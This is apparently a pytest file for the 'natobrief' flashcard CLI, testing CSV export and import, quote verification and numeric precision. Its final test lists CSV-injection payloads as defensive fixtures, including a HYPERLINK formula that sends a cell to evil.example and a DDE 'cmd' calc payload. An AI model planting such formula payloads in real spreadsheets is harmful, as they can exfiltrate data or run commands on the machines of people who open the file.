"""``natobrief export --to csv`` and ``natobrief import`` round-trip every card type."""

from __future__ import annotations

import csv
import shutil
from dataclasses import replace
from pathlib import Path

from click.testing import CliRunner

from natobrief.cli import cli
from natobrief.deck.loader import load_deck
from natobrief.deck.model import SourceRef
from tests.conftest import DATA

GOOD = DATA / "good" / "deck.yaml"


def test_every_card_survives_export_and_import(tmp_path: Path) -> None:
    shutil.copy(DATA / "good" / "sources" / "article.txt", tmp_path / "article.txt")
    runner = CliRunner()
    exported = runner.invoke(
        cli, ["export", str(GOOD), "--to", "csv", "-o", str(tmp_path / "cards.csv")]
    )
    assert exported.exit_code == 0, exported.output
    assert "8 cards written" in exported.output
    imported = runner.invoke(
        cli,
        [
            "import",
            str(tmp_path / "cards.csv"),
            "-o",
            str(tmp_path / "deck.yaml"),
            "--source",
            str(tmp_path / "article.txt"),
            "--title",
            "NATO Watch",
        ],
    )
    assert imported.exit_code == 0, imported.output
    original = load_deck(GOOD)
    again = load_deck(tmp_path / "deck.yaml")

    def comparable(card: object) -> object:
        # the source id and the line numbers differ by construction; the rest must not
        quotes = tuple(q.text for q in card.source.quotes)  # type: ignore[attr-defined]
        return replace(card, source=SourceRef("x", ()), line=0), quotes  # type: ignore[type-var]

    assert [comparable(c) for c in again.cards] == [comparable(c) for c in original.cards]


def test_unverified_quotes_are_listed_and_marked(tmp_path: Path) -> None:
    shutil.copy(DATA / "good" / "sources" / "article.txt", tmp_path / "article.txt")
    CliRunner().invoke(cli, ["export", str(GOOD), "-o", str(tmp_path / "cards.csv")])
    with (tmp_path / "cards.csv").open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    rows[0]["quote"] = '["It was blocked by Germany"]'
    with (tmp_path / "edited.csv").open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    result = CliRunner().invoke(
        cli,
        [
            "import",
            str(tmp_path / "edited.csv"),
            "-o",
            str(tmp_path / "deck.yaml"),
            "--source",
            str(tmp_path / "article.txt"),
        ],
    )
    assert result.exit_code == 1
    assert "quote not found in article.txt: card 'tokyo-blocked'" in result.output
    text = (tmp_path / "deck.yaml").read_text()
    assert (
        "# quote not found in the source: copy the passage word for word\n  - id: tokyo-blocked"
        in text
    )


def test_number_answers_keep_every_digit_through_import_and_export(tmp_path: Path) -> None:
    shutil.copy(DATA / "good" / "sources" / "article.txt", tmp_path / "article.txt")
    runner = CliRunner()
    runner.invoke(cli, ["export", str(GOOD), "-o", str(tmp_path / "cards.csv")])
    with (tmp_path / "cards.csv").open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    (heads,) = [row for row in rows if row["id"] == "heads-32"]
    heads.update(answer="1234567.25", tolerance="0.125")
    with (tmp_path / "edited.csv").open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    deck = tmp_path / "deck.yaml"
    imported = runner.invoke(
        cli,
        ["import", str(tmp_path / "edited.csv"), "-o", str(deck),
         "--source", str(tmp_path / "article.txt")],
    )  # fmt: skip
    assert imported.exit_code == 0, imported.output
    card = next(card for card in load_deck(deck).cards if card.id == "heads-32")
    assert (card.answer, card.tolerance) == (1234567.25, 0.125)  # type: ignore[union-attr]
    runner.invoke(cli, ["export", str(deck), "-o", str(tmp_path / "again.csv")])
    with (tmp_path / "again.csv").open(encoding="utf-8", newline="") as handle:
        again = {row["id"]: row for row in csv.DictReader(handle)}
    assert (again["heads-32"]["answer"], again["heads-32"]["tolerance"]) == ("1234567.25", "0.125")


def test_cells_a_spreadsheet_would_run_are_guarded_and_come_back_unchanged(
    tmp_path: Path,
) -> None:
    from natobrief.tools.csv.cards import guarded, unguarded

    hostile = [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "-5",
        "\tindented",
        "'=already quoted",
        "''two",
        "plain",
    ]
    for cell in hostile:
        assert unguarded(guarded(cell)) == cell
        assert not guarded(cell).startswith(("=", "+", "-", "@", "\t", "\r"))
    assert guarded("plain") == "plain" and guarded("-5") == "'-5"
